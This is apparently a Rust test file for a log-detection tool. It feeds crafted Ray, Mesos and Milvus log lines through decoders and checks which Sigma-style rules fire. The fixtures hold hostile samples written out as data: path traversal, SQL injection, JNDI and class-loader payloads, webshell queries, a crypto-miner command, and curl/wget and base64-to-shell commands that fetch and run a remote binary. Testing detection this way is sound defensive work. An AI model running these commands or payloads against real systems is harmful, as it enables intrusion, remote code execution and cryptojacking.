//! Rules written with the Sigma taxonomy's field names (as SigmaHQ's
//! webserver and Linux process rules are) against events of our decoders:
//! crafted raw Ray dashboard, Mesos, Milvus access and job lines go through
//! the real decoding pipeline (source decoder and sanitizer, as `hunt` reads
//! files), then through the rule set. Attacks must fire, near misses not.
//!
//! The fixtures are in crates/detect/tests/fixtures/sigma-taxonomy (see its
//! README). `SIGMAHQ_RULES=<dir of SigmaHQ's rules> cargo test -p sightline
//! --test sigma_taxonomy -- --ignored --nocapture` loads a SigmaHQ checkout too and
//! prints what loads and what fires on the same attacks (docs/rules.md
//! section 3 has the figures).

use sightline_decode::{DecodeOptions, StreamInfo};
use sightline_detect::{RuleSet, RuleSetBuilder};
use sightline_event::Event;
use sightline_parse::{Pipeline, SourceChoice};
use sightline_sanitize::Sanitizer;
use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

fn fixtures() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../detect/tests/fixtures/sigma-taxonomy")
}

fn rules() -> RuleSet {
    let mut b = RuleSetBuilder::new();
    b.add_dir(&fixtures());
    let (set, errors) = b.build();
    assert!(errors.is_empty(), "{errors:#?}");
    set
}

/// Decodes `text` as the file `path` with the source `module`, as `hunt` does.
fn decode(module: &str, path: &str, text: &str) -> Vec<Event> {
    let options = DecodeOptions {
        year: Some(2026),
        ..Default::default()
    };
    let pipeline = Pipeline::new(
        SourceChoice::Named(module.into()),
        options,
        Sanitizer::default(),
    );
    let mut out = Vec::new();
    pipeline
        .read(StreamInfo::for_path(path), text.as_bytes(), |ev| {
            out.push(ev)
        })
        .expect("in-memory read");
    assert_eq!(out.len(), text.lines().count(), "one event a line: {text}");
    out
}

/// The titles of the rules that match `ev`.
fn fired(set: &RuleSet, ev: &Event) -> BTreeSet<String> {
    set.matching_rules(ev)
        .into_iter()
        .filter_map(|i| set.rules.get(i))
        .filter(|r| r.alerting)
        .map(|r| r.meta.title.clone())
        .collect()
}

fn ray_access(request: &str, status: u16, agent: &str) -> String {
    format!(
        "2026-11-22 12:37:21,651\tINFO web_log.py:229 -- 10.9.1.5 [22/Nov/2026:12:37:21 +0000] '{request}' {status} 165 bytes 2539 us '-' '{agent}'"
    )
}

/// (raw line, the titles that must fire: none for a near miss).
fn ray_cases() -> Vec<(String, Vec<&'static str>)> {
    let ua = "Mozilla/5.0 (X11; Linux x86_64)";
    vec![
        (
            ray_access("GET /static/..%2f..%2f..%2fetc/passwd HTTP/1.1", 404, ua),
            vec!["Path traversal in a web request"],
        ),
        (
            ray_access("GET /api/logs?file=../../../etc/shadow HTTP/1.1", 400, ua),
            vec!["Path traversal in a web request"],
        ),
        (
            ray_access("GET /static/../index.html HTTP/1.1", 200, ua),
            vec![],
        ),
        (
            ray_access(
                "GET /api/jobs/?id=1%27%20UNION%20SELECT%20token%20FROM%20users-- HTTP/1.1",
                200,
                ua,
            ),
            vec!["SQL injection strings in a GET request"],
        ),
        // The server said 404: the filter on `sc-status` holds it back.
        (
            ray_access(
                "GET /api/jobs/?id=1%27%20UNION%20SELECT%20token%20FROM%20users-- HTTP/1.1",
                404,
                ua,
            ),
            vec![],
        ),
        // Not a GET (`cs-method`).
        (
            ray_access(
                "POST /api/jobs/?id=1%27%20UNION%20SELECT%20token HTTP/1.1",
                200,
                ua,
            ),
            vec![],
        ),
        (
            ray_access(
                "GET /api/version HTTP/1.1",
                200,
                "sqlmap/1.7.2#stable (https://sqlmap.org)",
            ),
            vec!["Web request from a scanner's user agent"],
        ),
        // The filter document, written with `cs-user-agent` too, excepts the authorized scan.
        (
            ray_access("GET /api/version HTTP/1.1", 200, "Nuclei - authorized-scan"),
            vec![],
        ),
        (
            ray_access("GET /api/version HTTP/1.1", 200, "python-requests/2.31.0"),
            vec![],
        ),
        (
            ray_access(
                "GET /api/v0/logs?glob=${jndi:ldap://203.0.113.7:1389/a} HTTP/1.1",
                400,
                ua,
            ),
            vec!["Java expression and JNDI payloads in a web request"],
        ),
        (
            ray_access(
                "POST /?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x HTTP/1.1",
                200,
                ua,
            ),
            vec!["Java expression and JNDI payloads in a web request"],
        ),
        // `cs-uri-query|startswith` reads the query proper, `cs-uri-stem` the path.
        (
            ray_access("GET /static/upload/help.jsp?cmd=id HTTP/1.1", 200, ua),
            vec!["Command parameter sent to a JSP"],
        ),
        (
            ray_access(
                "GET /static/upload/help.jsp?lang=en&cmd=id HTTP/1.1",
                200,
                ua,
            ),
            vec![],
        ),
        (
            ray_access("GET /api/help.jsp?cmd=id HTTP/1.1", 200, ua),
            vec![],
        ),
        // `cs-uri-query: null` under `not`: only a request with a query fires.
        (
            ray_access("GET /plugins/shell_x/run.php?c=whoami HTTP/1.1", 200, ua),
            vec!["Query sent to a dropped plugin shell"],
        ),
        (
            ray_access("GET /plugins/shell_x/run.php HTTP/1.1", 404, ua),
            vec![],
        ),
        (
            ray_access(
                "PUT /api/packages/gcs/deploy.sh HTTP/1.1",
                200,
                "curl/7.88.1",
            ),
            vec!["Script uploaded with PUT and accepted"],
        ),
        (
            ray_access(
                "PUT /api/packages/gcs/deploy.sh HTTP/1.1",
                403,
                "curl/7.88.1",
            ),
            vec![],
        ),
        (
            ray_access("GET /.git/config HTTP/1.1", 404, ua),
            vec!["Source control folder requested over the web"],
        ),
        (
            ray_access("GET /api/jobs/ HTTP/1.1", 200, "curl/7.88.1"),
            vec![],
        ),
    ]
}

#[test]
fn webserver_rules_fire_on_ray_dashboard_access_lines() {
    let set = rules();
    for (line, want) in ray_cases() {
        let evs = decode("ray", "/tmp/ray/session_latest/logs/dashboard.log", &line);
        let ev = &evs[0];
        assert_eq!(ev.dataset, "ray.dashboard", "{line}");
        assert!(ev.category.contains(&"web".to_owned()), "{line}");
        let want: BTreeSet<String> = want.iter().map(|s| (*s).to_owned()).collect();
        assert_eq!(fired(&set, ev), want, "{line}");
    }
}

const MESOS_HTTP: &str = "\
I1120 08:36:18.228630  9879 http.cpp:1436] HTTP GET for /files/read?path=..%2f..%2f..%2fetc%2fshadow&offset=0 from 10.20.2.45:51417 with User-Agent='Mozilla/5.0'
I1120 08:36:18.229630  9879 http.cpp:1436] HTTP GET for /master/state from 10.20.2.45:51418 with User-Agent='Nikto/2.5.0'
I1120 08:36:18.231630  9879 http.cpp:1453] HTTP GET for /master/state from 10.20.2.45:51418: '200 OK' after 7.6191ms
I1120 08:36:18.232630  9879 http.cpp:1436] HTTP GET for /master/state from 10.20.5.10:59336 with User-Agent='Go-http-client/1.1'
";

const MILVUS_ACCESS: &str = "\
[2026/03/09 06:00:05.754 +00:00] [ACCESS] <Unknown: 192.0.2.10> /v2/vectordb/../../../etc/passwd [status: HttpError404] [code: 0] [sdk: Restful] [msg: ] [traceID: Unknown] [timeCost: 150µs]
[2026/03/09 06:00:05.755 +00:00] [ACCESS] <Unknown: 192.0.2.10> /v2/vectordb/.git/config [status: HttpError404] [code: 0] [sdk: Restful] [msg: ] [traceID: Unknown] [timeCost: 150µs]
[2026/03/09 06:00:05.756 +00:00] [ACCESS] <alice: 192.0.2.11> /v2/vectordb/entities/search [status: Successful] [code: 0] [sdk: Restful] [msg: ] [traceID: t] [timeCost: 2ms]
[2026/03/09 06:00:05.757 +00:00] [ACCESS] <bob: tcp-10.0.0.9:5> Search [status: Successful] [code: 0] [sdk: Python-2.4.3] [msg: ../../ in a message] [traceID: x] [timeCost: 1ms]
";

#[test]
fn webserver_rules_fire_on_mesos_http_lines() {
    let set = rules();
    let text = MESOS_HTTP;
    let evs = decode("mesos", "/var/log/mesos/mesos-master.INFO", text);
    let got: Vec<BTreeSet<String>> = evs.iter().map(|e| fired(&set, e)).collect();
    let one = |t: &str| BTreeSet::from([t.to_owned()]);
    assert_eq!(
        got,
        [
            one("Path traversal in a web request"),
            one("Web request from a scanner's user agent"),
            BTreeSet::new(),
            BTreeSet::new(),
        ],
        "{evs:#?}"
    );
}

#[test]
fn webserver_rules_fire_on_milvus_restful_access_lines() {
    let set = rules();
    let text = MILVUS_ACCESS;
    let evs = decode("milvus", "/milvus/logs/milvus_access.log", text);
    let got: Vec<BTreeSet<String>> = evs.iter().map(|e| fired(&set, e)).collect();
    let one = |t: &str| BTreeSet::from([t.to_owned()]);
    assert_eq!(
        got,
        [
            one("Path traversal in a web request"),
            one("Source control folder requested over the web"),
            BTreeSet::new(),
            // A gRPC call is no web request: `category: webserver` does not select it.
            BTreeSet::new(),
        ],
        "{evs:#?}"
    );
}

/// Ray job entrypoints: attacks and near misses, in turn.
const JOB_COMMANDS: &[&str] = &[
    "./xmrig -o pool.supportxmr.com:443 -u 4A1 --donate-level 1",
    "python train.py --pool-size 4",
    "echo Y3VybCBodHRwOi8vMTAuMC4wLjEvYQ== | base64 -d | sh",
    "base64 -d payload.b64 > model.bin",
    "curl -s http://203.0.113.7/k -o /tmp/k && chmod +x /tmp/k && /tmp/k",
    "curl -s http://203.0.113.7/data.csv -o /tmp/data.csv",
];

fn job_driver(cmd: &str) -> Event {
    decode(
        "ray",
        "/tmp/ray/session_latest/logs/job-driver-raysubmit_x1.log",
        &format!("Running entrypoint for job raysubmit_x1: {cmd}"),
    )
    .remove(0)
}

#[test]
fn linux_process_rules_fire_on_job_and_task_commands() {
    let set = rules();
    let miner = "Crypto miner command line on Linux";
    let b64 = "Base64 decoded into a shell on Linux";
    let dl = "Download into a temporary folder and run it on Linux";
    let expected = [vec![miner], vec![], vec![b64], vec![], vec![dl], vec![]];
    for (cmd, want) in JOB_COMMANDS.iter().zip(expected) {
        let ev = job_driver(cmd);
        assert_eq!(ev.get_str("process.command_line"), Some(*cmd));
        let want: BTreeSet<String> = want.iter().map(|s| (*s).to_owned()).collect();
        assert_eq!(fired(&set, &ev), want, "{cmd}");
    }
    // A Mesos task's shell command (the executor's `sh -c '...'` line in the sandbox stderr).
    let evs = decode(
        "mesos",
        "/var/lib/mesos/slaves/S1/frameworks/F1/executors/e1/runs/r1/stderr",
        "sh -c 'wget -q http://203.0.113.7/x -O /dev/shm/x; chmod 755 /dev/shm/x; /dev/shm/x -o stratum+tcp://pool.example:3333'\n\
         + ls /tmp/\n",
    );
    assert_eq!(
        fired(&set, &evs[0]),
        BTreeSet::from([miner.to_owned(), dl.to_owned()])
    );
    assert_eq!(fired(&set, &evs[1]), BTreeSet::new());
    // A process rule does not see a line that merely mentions a pool: it is no process start.
    let out = decode(
        "mesos",
        "/var/lib/mesos/slaves/S1/frameworks/F1/executors/e1/runs/r1/stdout",
        " * POOL #1      stratum+tcp://pool.supportxmr.example:3333 algo rx/0\n",
    );
    assert!(out[0].category.contains(&"process".to_owned()));
    assert_eq!(fired(&set, &out[0]), BTreeSet::new());
}

#[test]
fn the_fixture_set_loads_and_says_what_cannot_match() {
    let set = rules();
    assert_eq!(set.stats.detection_rules, 12);
    assert_eq!(set.stats.filters_applied, 1);
    // The one warning: `Image` maps to a field no decoder of ours sets.
    let warnings: Vec<String> = set.warnings.iter().map(ToString::to_string).collect();
    assert_eq!(warnings.len(), 1, "{warnings:#?}");
    assert!(
        warnings[0].contains("curl_executable.yml")
            && warnings[0].contains("`Image` maps to `process.executable`"),
        "{warnings:#?}"
    );
    // Names already ours are left alone: the bundled pack loads as before, warning-free.
    let mut b = RuleSetBuilder::new();
    b.add_dir(&Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules"));
    let (pack, errors) = b.build();
    assert!(errors.is_empty(), "{errors:#?}");
    assert!(pack.warnings.is_empty(), "{:#?}", pack.warnings);
}

/// Loads a SigmaHQ checkout (`SIGMAHQ_RULES`, e.g. its rules, rules-threat-hunting and
/// rules-emerging-threats under one directory) and runs its webserver rules over the
/// crafted attacks above. Not part of CI: it needs a copy of SigmaHQ's rules.
#[test]
#[ignore]
fn sigmahq_rules_load_and_fire() {
    let Some(dir) = std::env::var_os("SIGMAHQ_RULES") else {
        eprintln!("SIGMAHQ_RULES is not set; nothing to load");
        return;
    };
    let mut b = RuleSetBuilder::new();
    b.add_dir(Path::new(&dir));
    let (set, errors) = b.build();
    let web = set
        .rules
        .iter()
        .filter(|r| r.logsource.category.as_deref() == Some("webserver"))
        .count();
    let web_errors = errors
        .iter()
        .filter(|e| {
            std::fs::read_to_string(&e.location.file)
                .is_ok_and(|t| t.contains("category: webserver"))
        })
        .count();
    println!(
        "SigmaHQ: {} detection rules loaded, {} error(s); webserver: {} loaded, {} with errors",
        set.stats.detection_rules,
        errors.len(),
        web,
        web_errors
    );
    for e in &errors {
        println!("  error: {e}");
    }
    let mut attacks: Vec<Event> = ray_cases()
        .into_iter()
        .filter(|(_, want)| !want.is_empty())
        .flat_map(|(line, _)| decode("ray", "/tmp/ray/session_latest/logs/dashboard.log", &line))
        .collect();
    attacks.extend(decode(
        "mesos",
        "/var/log/mesos/mesos-master.INFO",
        MESOS_HTTP,
    ));
    attacks.extend(decode(
        "milvus",
        "/milvus/logs/milvus_access.log",
        MILVUS_ACCESS,
    ));
    let commands: Vec<Event> = JOB_COMMANDS.iter().map(|c| job_driver(c)).collect();
    let report = |what: &str, category: &str, evs: &[Event]| {
        let mut hit = BTreeSet::new();
        for ev in evs {
            for i in set.matching_rules(ev) {
                if set.rules[i].logsource.category.as_deref() == Some(category) {
                    hit.insert(set.rules[i].meta.title.clone());
                }
            }
        }
        println!(
            "{} {what}; {} SigmaHQ {category} rule(s) fired:",
            evs.len(),
            hit.len()
        );
        for t in &hit {
            println!("  {t}");
        }
    };
    report(
        "crafted web lines (Ray, Mesos, Milvus)",
        "webserver",
        &attacks,
    );
    report("Ray job entrypoints", "process_creation", &commands);
}
